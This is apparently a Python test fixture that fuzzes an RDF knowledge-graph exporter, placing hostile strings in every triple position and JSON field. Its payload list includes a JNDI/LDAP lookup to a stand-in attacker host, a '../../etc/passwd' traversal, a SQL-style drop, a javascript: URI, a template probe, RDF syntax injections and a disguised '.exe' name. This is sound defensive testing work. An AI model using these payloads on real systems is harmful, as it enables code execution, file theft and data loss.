"""Hostile input: what does harm somewhere, and the places where it can come in.

``cases()`` puts every payload in every position; the properties in tests/graph/test_gate.py make up more.
"""

from collections.abc import Callable, Iterator
from itertools import islice
from typing import Any

import msgspec
from rdflib import XSD, Literal, URIRef

from kgexport.model import AnnotatedArticle
from tests.graphs import BASE

ARTICLE = URIRef(f"{BASE}article/lakeside")
P = URIRef("https://other.example/p")

# Characters that end something in one of the formats, that do not travel, or that hide.
NASTY = (
    "\x00\x01\t\n\r\x0b\x0c\x1b \"'<>{}|^`\\\x7f\x85\xa0\xad\u061c\u200b\u200e\u200f\u2028\u2029\u202a\u202e\u2066\u2069"
    "\ufeff\ufffc\ufffd\ufdd0\ufffe\uffff\ud800\udfff\U0001f600\U000e0001\U0010ffff@^#?%.:/;,[]()*+=&$!~-_\xe9\u0301"
)
# Text that goes on in the syntax of a format where it is pasted in.
INJECTIONS = (
    '"> . <https://evil.example/s> <https://evil.example/p> "',
    "https://evil.example/> <https://evil.example/p> <https://evil.example/o> .\n<x:x",
    'x"@en . <a:b> <a:c> "y',
    'x"^^<a:b> . <a:c> <a:d> "y',
    "en . <a:b> <a:c> <a:d>",
    '"""', "'''", "\\", '\\"', "\\u003e", "\\U0000003E", "\\ud83d", "&gt;", "%3E", "%zz", "%",
    "<//evil.example/x>", "<a:b>", "_:b0", "[]", "()", "{}", "<<<a:b> <a:c> <a:d>>>", "@prefix kg: <evil:> .", "@base <evil:> .",
    "# a comment\n", ".", "..", "../..", "a/../../b", "/../", "./", "//", "#", "?", "#char=0,24", "char=0,24", "extraction",
    "link-person-41-Q1", "NaN", "INF", "1e400", "-0", "2025-02-30", "0000-00-00", "true", "en", "en-GB", "i-klingon",
    "', '') ; DROP ALL ; #", "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../etc/passwd", "CON", "-o", "\u202egpj.exe",
    "e\u0301", "\xe9", "a\u0301" * 50, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "x" * 10_000, "<" * 1000,
    '"' * 1000, "\\" * 1000,
    "https://" + "a" * 5000 + ".example/", "https://a.example/" + "%41" * 1000,
    "https://[::1]:99999/", "javascript:alert(1)", "urn:x:y",
)  # fmt: skip


Position = Callable[[str], tuple[Any, Any, Any]]
POSITIONS: dict[str, Position] = {
    "subject": lambda text: (URIRef(text), P, ARTICLE),
    "predicate": lambda text: (ARTICLE, URIRef(text), ARTICLE),
    "object": lambda text: (ARTICLE, P, URIRef(text)),
    "IRI with a hostile end": lambda text: (ARTICLE, P, URIRef(f"https://other.example/{text}")),
    "literal": lambda text: (ARTICLE, P, Literal(text)),
    "datatype": lambda text: (ARTICLE, P, Literal("x", datatype=URIRef(text))),
    "datatype with a hostile end": lambda text: (
        ARTICLE,
        P,
        Literal("x", datatype=URIRef(f"https://o.example/{text}")),
    ),
    "lexical form": lambda text: (ARTICLE, P, Literal(text, datatype=XSD.date, normalize=False)),
}


def with_text(annotated: AnnotatedArticle, field: str, text: str) -> AnnotatedArticle:
    """The article with the text in one place of its JSON form. ValueError where the model refuses it."""
    tree = msgspec.json.decode(msgspec.json.encode(annotated))
    *path, last = field.split("/")
    node = tree
    for step in path:
        node = node[int(step)] if isinstance(node, list) else node[step]
    node[last] = text
    return msgspec.convert(tree, AnnotatedArticle)


FIELDS = [
    "article/id",
    "article/url",
    "article/language",
    "article/published",
    "extraction/tool",
    "extraction/model",
    "agents/1/name",
    "agents/1/id",
    "agents/4/description",
    "agents/6/country",
    "places/0/name",
    "places/0/id",
    "times/0/value",
    "times/0/clock",
    "memberships/0/title",
    "meetings/0/label",
    "meetings/0/id",
    "meetings/0/assertions/0/id",
    "statements/2/rule",
    "statements/2/cue_lemma",
    "statements/0/id",
    "links/0/method",
    "links/0/target",
]


def cases(step: int = 1) -> Iterator[tuple[str, str]]:
    """(position, payload) of every case, or of every n-th; a position is a key of POSITIONS or an entry of FIELDS."""
    yield from islice(_all_cases(), 0, None, step)


def _all_cases() -> Iterator[tuple[str, str]]:
    payloads = list(dict.fromkeys([*INJECTIONS, *NASTY, *(f"a{letter}b" for letter in NASTY)]))
    for position in (*POSITIONS, *FIELDS):
        for payload in payloads:
            yield position, payload
